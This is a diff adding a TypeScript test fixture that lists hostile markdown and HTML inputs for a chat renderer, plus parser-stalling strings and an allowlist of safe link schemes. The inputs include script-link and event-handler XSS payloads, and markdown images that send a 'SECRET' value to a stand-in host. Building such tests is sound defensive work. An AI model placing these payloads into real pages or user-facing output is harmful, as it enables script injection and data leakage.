@@ -1,0 +1,57 @@
+/**
+ * Texts that have broken chats, with what each must not become. One table for everything that draws text: the tree here,
+ * and the elements of the widget and the console.
+ */
+export interface HostileText {
+  readonly name: string;
+  readonly text: string;
+}
+
+export const HOSTILE_TEXTS: readonly HostileText[] = [
+  { name: 'M1: a script link', text: '[x](javascript:alert(1))' },
+  { name: 'M1: a script link with a line break', text: '[x](java\nscript:alert(1))' },
+  { name: 'M1: a script link in entities', text: '[x](&#106;avascript:alert(1))' },
+  { name: 'M1: a script link behind a control character', text: '[x](\u0001javascript:alert(1))' },
+  { name: 'M1: vbscript', text: '[x](vbscript:msgbox(1))' },
+  { name: 'M1: a document in an address', text: '[x](data:text/html,<script>alert(1)</script>)' },
+  { name: 'M1: a blob', text: '[x](blob:https://e.example/1)' },
+  { name: 'M2: an image', text: '![a](https://e.example/x?d=SECRET)' },
+  { name: 'M2: an image by reference', text: '![a][r]\n\n[r]: https://e.example/x?d=SECRET' },
+  { name: 'M2: a raw image', text: '<img src=x onerror=alert(1)>' },
+  { name: 'M3: a script', text: '<script>alert(1)</script>' },
+  { name: 'M3: an SVG', text: '<svg onload=alert(1)>' },
+  { name: 'M3: a frame', text: '<iframe srcdoc="<script>alert(1)</script>"></iframe>' },
+  { name: 'M3: a style sheet', text: '<style>@import "https://e.example"</style>' },
+  { name: 'M3: a base', text: '<base href="https://e.example/">' },
+  { name: 'M3: a form', text: '<form action="https://e.example"><input></form>' },
+  { name: 'M6: an event handler in a title', text: '[x](https://e.example "a\\" onmouseover=\\"alert(1)")' },
+  { name: 'M5: a relative link', text: '[x](/admin)' },
+  { name: 'M5: a link without scheme', text: '[x](//e.example)' },
+];
+
+/** Texts made to keep a parser busy. */
+export const SLOW_TEXTS: readonly string[] = [
+  '- '.repeat(4_000),
+  '>'.repeat(8_000),
+  '['.repeat(8_000),
+  '__*_'.repeat(2_000),
+  `|${'a|'.repeat(4_000)}`,
+  '['.repeat(32_000),
+  '[a]('.repeat(8_000),
+  `[a](${'x'.repeat(32_000)}`,
+  `[a](x ${'y'.repeat(32_000)}`,
+  '**a'.repeat(10_000),
+  '_a*'.repeat(10_000),
+  '`'.repeat(32_000),
+  `${' '.repeat(32_000)}-`,
+  '# '.repeat(16_000),
+];
+
+/** Pieces to build further texts of. */
+export const HOSTILE_PIECES: readonly string[] = [
+  ...['<', '>', '[', ']', '(', ')', '!', '`', '*', '_', '#', '|', '\n', '- ', '"', "'", '\\', ' ', 'text'],
+  ...['javascript:', 'data:', 'https://a.example', '<img src=x onerror=1>', '&#106;'],
+];
+
+/** Every address that an app may make clickable. */
+export const ALLOWED_ADDRESS = /^(?:https:\/\/|mailto:|tel:|http:\/\/(?:localhost|127\.0\.0\.1)(?=[:/]))/;
